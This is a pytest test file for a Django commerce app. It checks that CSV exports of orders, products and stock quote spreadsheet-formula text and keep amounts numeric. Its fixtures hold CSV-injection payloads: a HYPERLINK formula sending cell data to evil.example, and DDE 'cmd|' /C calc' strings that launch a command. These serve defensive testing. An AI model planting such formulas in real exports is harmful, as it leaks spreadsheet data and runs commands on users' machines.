"""CSV files people open in a spreadsheet never carry a live formula: text that starts one is quoted, numbers stay
numbers (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from commerce.models import Order, OrderLine, Product, StockLevel
from commerce.services.records_export import records_export_csv
from config.spreadsheet import csv_bytes, spreadsheet_cell
from tests.factories import OrganizationFactory

HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("text", "written"), HOSTILE.items())
def test_text_that_a_spreadsheet_would_run_is_quoted(text, written):
    assert spreadsheet_cell(text) == written


@pytest.mark.parametrize(("value", "written"), [
    (Decimal("-12.50"), "-12.50"), (-3, "-3"), (-0.5, "-0.5"), (0, "0"), (None, ""), (True, "True"),
    ("Ion Popescu", "Ion Popescu"), ("a=b", "a=b"), ("", ""), ("'already", "'already"),
    (datetime(2024, 12, 3, 18, tzinfo=UTC), "2024-12-03T18:00:00+00:00"),
])
def test_numbers_times_and_ordinary_text_are_written_as_they_are(value, written):
    assert spreadsheet_cell(value) == written


def test_the_file_quotes_cells_and_keeps_the_header():
    content = csv_bytes(("name", "total"), [("=1+1", Decimal("-5.00")), ("ok", Decimal("5"))])
    assert content == b"name,total\r\n'=1+1,-5.00\r\nok,5\r\n"


@pytest.mark.django_db
def test_the_records_backup_neutralises_every_text_column_and_keeps_negative_amounts():
    organization = OrganizationFactory()
    product = Product.objects.create(organization=organization, sku="+SKU-1", name="=cmd|' /C calc'!A0",
                                     price=Decimal("10.00"), currency="RON", barcode="@1234")
    StockLevel.objects.create(organization=organization, product=product, location="-shelf", on_hand=-2, reserved=0)
    order = Order.objects.create(organization=organization, external_id="=ext", external_number="-1001",
                                 currency="RON", total=Decimal("-12.50"), subtotal=Decimal("-12.50"),
                                 customer_name="=HYPERLINK(\"http://evil.example\")", customer_email="@x.example",
                                 placed_at=datetime(2024, 12, 3, 18, tzinfo=UTC))
    OrderLine.objects.create(order=order, external_id="l1", sku="+SKU-1", title="\t=2+2", product=product,
                             quantity=1, unit_price=Decimal("-12.50"), total=Decimal("-12.50"))

    files = {name: list(csv.DictReader(io.StringIO(content.decode(), newline="")))
             for name, content in records_export_csv(organization_id=organization.pk).items()}

    row = files["orders.csv"][0]
    assert (row["external_id"], row["external_number"], row["customer_name"], row["customer_email"]) == (
        "'=ext", "'-1001", "'=HYPERLINK(\"http://evil.example\")", "'@x.example")
    assert (row["total"], row["subtotal"]) == ("-12.5000", "-12.5000")  # amounts stay numbers
    line = files["order_lines.csv"][0]
    assert (line["sku"], line["title"], line["unit_price"]) == ("'+SKU-1", "'\t=2+2", "-12.5000")
    item = files["products.csv"][0]
    assert (item["sku"], item["name"], item["barcode"]) == ("'+SKU-1", "'=cmd|' /C calc'!A0", "'@1234")
    stock = files["stock.csv"][0]
    assert (stock["sku"], stock["location"], stock["on_hand"]) == ("'+SKU-1", "'-shelf", "-2")
    every_cell = [cell for rows in files.values() for r in rows for cell in r.values()]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "@", "\t", "\r")]
